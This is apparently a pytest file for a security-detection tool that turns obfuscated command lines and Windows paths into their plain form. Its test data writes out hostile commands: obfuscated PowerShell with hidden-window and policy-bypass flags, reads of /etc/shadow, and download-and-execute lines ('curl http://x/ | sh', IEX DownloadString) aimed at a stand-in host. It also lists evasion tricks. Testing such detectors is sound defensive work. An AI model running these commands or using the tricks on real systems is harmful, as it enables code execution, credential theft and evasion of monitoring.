"""One act, many spellings: what is read beside the line or path that a log holds."""

from __future__ import annotations

import base64
import zlib

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from soc_analyst.tools.detections.columns import TableViews
from soc_analyst.tools.detections.fields import field_map
from soc_analyst.tools.detections.spellings import plainer_lines, plainer_path
from soc_analyst.tools.evidence import TableRows


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        (r"cmd /c p^ower^shell -nop", "cmd /c powershell -nop"),
        (r'cmd /c p""owershell who"am"i', "cmd /c powershell whoami"),
        ("powershell Invo`ke-Expr`ession x", "powershell Invoke-Expression x"),
        ("powershell ('Down'+'load'+'String')", "powershell ('DownloadString')"),
        ("powershell ('{1}{0}' -f 'X','IE')", "powershell 'IEX'"),
        ("powershell [char]73+[char]0x45+[char]88", "powershell 'IEX'"),
        ("powershell \u2013enc\u00a0x", "powershell -enc x"),
        ("powershell /w hidden /ep bypass", "powershell -w hidden -ep bypass"),
        ("schtasks.exe -create -tn a", "schtasks.exe /create /tn a"),
        (r"rundll32 c:/users/public/a.dll,x", r"rundll32 c:\users\public\a.dll,x"),
        (r"rundll32 C:\\Users\\Public\\a.dll,x", r"rundll32 C:\Users\Public\a.dll,x"),
        (r"rundll32 %PUBLIC%\a.dll,x", r"rundll32 C:\Users\Public\a.dll,x"),
        (r"%COMSPEC:~-7,3% /c x", "cmd /c x"),
        ("cmd /c set a=who&& set b=ami&& %a%%b%", "cmd /c set a=who&& set b=ami&& whoami"),
        (r"reg add HKCU/Software/a", r"reg add HKCU\Software\a"),
        (r"reg  add  HKCU\Software\a", r"reg add HKCU\Software\a"),
        ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
        ("bash -c '{cat,/etc/shadow}'", "bash -c 'cat /etc/shadow'"),
        ("sudo c''at /etc//shadow", "sudo cat /etc/shadow"),
        (r"sudo c\at /etc/./shadow", "sudo cat /etc/shadow"),
        ("bash -c 'a=cu;b=rl; $a$b http://x/'", "bash -c 'a=cu;b=rl; curl http://x/'"),
    ],
)
def test_a_line_is_read_as_the_shell_reads_it(written: str, plain: str) -> None:
    assert plain in plainer_lines(written)


def test_text_in_base64_is_read_again_and_again() -> None:
    inner = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/')"
    twice = "powershell -enc " + encoded("powershell -enc " + encoded(inner))
    packed = base64.b64encode(zlib.compress(inner.encode())).decode()

    assert any(inner in form for form in plainer_lines(twice))
    assert any(inner in form for form in plainer_lines(f"powershell -c x '{packed}'"))


def test_a_piece_of_a_program_in_base64_is_no_text() -> None:
    piece = b"usage: %s [options] host\n\0GET\0HEAD\0reg add HKCU\\Software\\proxy\0curl http://x/ | sh\0"

    assert plainer_lines(f"cmd.exe /c echo {base64.b64encode(piece).decode()}") == ()


@pytest.mark.parametrize(
    "line",
    [
        "",
        r"C:\Windows\System32\svchost.exe -k netsvcs -p",
        r'"C:\Program Files\Vendor\app.exe"  --type=renderer --lang=en-US',
        "powershell -NoProfile -File C:\\Ops\\a.ps1",
        "cmd /c powershell -NoProfile -File a.ps1",
        "/usr/bin/python3 /usr/lib/update-notifier/apt_check.py",
    ],
)
def test_a_plain_line_has_no_other_spelling(line: str) -> None:
    assert plainer_lines(line) == ()


@pytest.mark.parametrize(
    "written",
    [
        r"\\?\C:\Windows\System32\a.exe",
        r"\??\C:\Windows\System32\a.exe",
        r"\Device\HarddiskVolume3\Windows\System32\a.exe",
        r"\SystemRoot\System32\a.exe",
        r"%SystemRoot%\System32\a.exe",
        "C:/Windows/System32/a.exe",
        r"C:\\Windows\\System32\\a.exe",
        r"C:\Windows\Temp\..\System32\a.exe",
    ],
)
def test_a_path_is_read_as_windows_shows_it(written: str) -> None:
    assert plainer_path(written) == (r"C:\Windows\System32\a.exe",)


def test_other_paths_stand_as_they_are() -> None:
    assert plainer_path(r"C:\PROGRA~2\a\b.exe") == (r"C:\Program Files (x86)\a\b.exe",)
    assert not any(map(plainer_path, ("", r"C:\Windows\a.exe", r"\\server\share\a.exe", "/usr/bin/a", r"\a.exe")))


TRICKS = (
    "^", '"', "'", "`", "%", "%a%", "%comspec:~", "-9,", "!a!", "$", "${IFS}", "{a,", "}", "\\", "/", "..", "'+'", "=",
    "(", " ", "\n", "[char]55296", "[char]99999", "fromcharcode(1,", "-f", "{0}", "set a=%a%%a%&", "a=$a$a;",
    "\u2013", "H4sI" * 9, "powershell ", "/etc/", "C:/", "A" * 30, "schtasks -",
)  # fmt: skip
HOSTILE = st.lists(st.sampled_from(TRICKS), max_size=60).map("".join)


@settings(max_examples=300, deadline=None)
@given(HOSTILE)
def test_nothing_that_a_line_holds_breaks_its_reading(line: str) -> None:
    forms = plainer_lines(line)
    assert len(forms) <= 8 and pa.array(forms, pa.string()) is not None
    assert line not in forms
    assert len(plainer_path(line)) <= 1


def test_fields_hold_both_spellings_and_columns_the_written_one_alone() -> None:
    lines = [
        "w^hoami ^/all",
        "notepad",
        None,
        "w^hoami ^/all",
        "powershell -enc " + encoded("Get-Process | Out-File a"),
    ]
    rows = pa.table({"ProcessCommandLine": lines, "FolderPath": ["C:/Windows/a.exe"] * 5})
    views = TableViews(TableRows.collect("DeviceProcessEvents", [("q", rows)]), field_map())
    line, written, image = views["CommandLine"], views["ProcessCommandLine"], views["Image"]
    assert line is not None and written is not None and image is not None

    texts = line.texts()
    assert texts[0] == texts[3] == ["w^hoami ^/all", "whoami /all"]
    assert texts[1:3] == [["notepad"], []]
    assert any("Get-Process" in text for text in texts[4])
    assert written.texts()[0] == ["w^hoami ^/all"]
    assert image.texts()[0] == ["C:/Windows/a.exe", r"C:\Windows\a.exe"]
